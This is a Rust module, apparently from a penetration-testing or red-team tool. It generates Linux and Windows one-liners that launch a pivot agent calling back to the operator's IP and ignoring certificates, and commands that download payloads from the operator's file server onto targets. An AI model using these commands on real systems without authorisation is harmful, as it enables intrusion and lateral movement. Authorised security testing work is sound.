//! One-off command-string generation for agents and payload downloads.

use serde::Deserialize;

use crate::config::Settings;
use crate::{AppError, Result};

/// Operating system a generated command targets.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum TargetOs {
    /// curl / shell one-liners.
    Linux,
    /// PowerShell one-liners.
    Windows,
}

/// Command to launch the pivot agent on a Linux target.
#[must_use]
pub fn agent_command_linux(settings: &Settings) -> String {
    format!(
        "./{} -connect {}:{} -ignore-cert",
        settings.agent_binary, settings.public_ip, settings.proxy_port
    )
}

/// PowerShell one-liner to launch the pivot agent on a Windows target.
/// Appends `.exe` to the binary name when missing.
#[must_use]
pub fn agent_command_windows(settings: &Settings) -> String {
    let mut binary = settings.agent_binary.clone();
    if !binary.to_lowercase().ends_with(".exe") {
        binary.push_str(".exe");
    }
    format!(
        "powershell -Command \"Start-Process -FilePath .\\\\{} -ArgumentList '-connect {}:{} -ignore-cert'\"",
        binary, settings.public_ip, settings.proxy_port
    )
}

/// Reject filenames that could escape the served directory when
/// embedded into a generated URL or command.
///
/// # Errors
///
/// Returns `AppError::InvalidRequest` for empty names or names
/// containing a path separator or parent-directory token.
pub fn validate_filename(filename: &str) -> Result<()> {
    if filename.is_empty()
        || filename.contains('/')
        || filename.contains('\\')
        || filename.contains("..")
    {
        return Err(AppError::InvalidRequest("invalid filename".into()));
    }
    Ok(())
}

/// Download one-liner for a file served by the payload file server.
///
/// # Errors
///
/// Returns `AppError::InvalidRequest` when the filename fails
/// [`validate_filename`].
pub fn download_command(settings: &Settings, os: TargetOs, filename: &str) -> Result<String> {
    let filename = filename.trim();
    validate_filename(filename)?;

    let url = format!(
        "http://{}:{}/{}",
        settings.public_ip, settings.file_port, filename
    );

    let command = match os {
        TargetOs::Linux => format!("curl -o {filename} {url}"),
        TargetOs::Windows => format!(
            "powershell -Command \"Invoke-WebRequest -Uri '{url}' -OutFile '{filename}'\""
        ),
    };
    Ok(command)
}
